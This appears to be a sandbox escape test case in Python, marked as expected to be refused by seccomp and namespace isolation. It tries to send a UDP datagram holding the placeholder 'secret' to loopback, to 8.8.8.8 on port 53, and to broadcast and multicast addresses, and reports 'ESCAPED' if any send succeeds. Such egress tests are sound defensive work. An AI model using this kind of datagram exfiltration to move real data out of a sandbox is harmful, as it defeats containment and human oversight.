# A datagram needs no answer to carry a secret out.
# layer: seccomp
# also: namespaces
# expect: refused
# violation: socket
import socket
for address in (("127.0.0.1", 9), ("8.8.8.8", 53), ("255.255.255.255", 67), ("224.0.0.1", 5353)):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        print("ESCAPED: sent", s.sendto(b"secret", address), "bytes to", address)
    except OSError:
        pass
